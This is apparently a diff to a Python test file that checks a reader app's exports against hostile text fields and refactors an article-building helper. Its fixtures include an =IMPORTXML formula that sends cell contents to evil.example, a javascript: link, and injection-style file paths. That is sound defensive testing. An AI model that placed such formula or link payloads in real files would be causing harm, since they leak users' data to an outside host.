@@ -23,6 +23,7 @@ from db.store import Store
 from reader.export import _md, export
 from reader.library import Library
 from reader.safe_text import visible
+from tests.conftest import store_understood
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 WHAT = ["articles", "quotes", "entities", "highlights"]
@@ -43,7 +44,7 @@ USER_TAG = "+user [tag](http://evil.example)"
 NOTE = '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a") [a](javascript:alert(1))'
 
 
-def _article(title: str, quotes: list[str], path: str, **extra) -> ArticleRecord:
+def _article(title: str, quotes: list[str], path: str, **extra) -> tuple:
     text = title + "\n\n"
     spans = []
     for quote in quotes:
@@ -52,20 +53,21 @@ def _article(title: str, quotes: list[str], path: str, **extra) -> ArticleRecord
         text += quote + '" ' + SPEAKER + ".\n\n"
     text += ORG + " did not answer.\n"
     org = text.index(ORG)
-    return ArticleRecord(
+    record = ArticleRecord(
         path=path,
         text=text,
         encoding="utf-8",
         content_hash=hashlib.sha256(text.encode()).hexdigest(),
         title=title,
         lang="en",
-        mentions=[
-            MentionRecord("minus person", "PER", SPEAKER, *_at(text, SPEAKER)),
-            MentionRecord("evil corp", "ORG", ORG, org, org + len(ORG)),
-        ],
-        quotes=[QuoteRecord(s, e, speaker=SPEAKER, speaker_key="minus person") for s, e in spans],
         **extra,
     )
+    mentions = [
+        MentionRecord("minus person", "PER", SPEAKER, *_at(text, SPEAKER)),
+        MentionRecord("evil corp", "ORG", ORG, org, org + len(ORG)),
+    ]
+    quotes = [QuoteRecord(s, e, speaker=SPEAKER, speaker_key="minus person") for s, e in spans]
+    return record, mentions, quotes
 
 
 def _at(text: str, phrase: str) -> tuple[int, int]:
@@ -78,10 +80,13 @@ def exported(tmp_path_factory) -> dict[tuple[str, str], str]:
     """Every export of a library whose every exported text field is hostile."""
     path = tmp_path_factory.mktemp("hostile") / "reader.db"
     with Store(path) as store:
-        _, first = store.store_article(
-            _article(FORMULA_TITLE, QUOTES[:3], "/x/=evil|.txt", source="@evil", tags=TAGS)
+        first, second = store_understood(
+            store,
+            [
+                _article(FORMULA_TITLE, QUOTES[:3], "/x/=evil|.txt", source="@evil", tags=TAGS),
+                _article(MARKDOWN_TITLE, QUOTES[3:], "/x/second.txt"),
+            ],
         )
-        _, second = store.store_article(_article(MARKDOWN_TITLE, QUOTES[3:], "/x/second.txt"))
     with Library(path) as library:
         library.add_tag(first, USER_TAG)
         library.add_highlight(second, *_at(library.article(second).text, QUOTES[3]), note=NOTE)
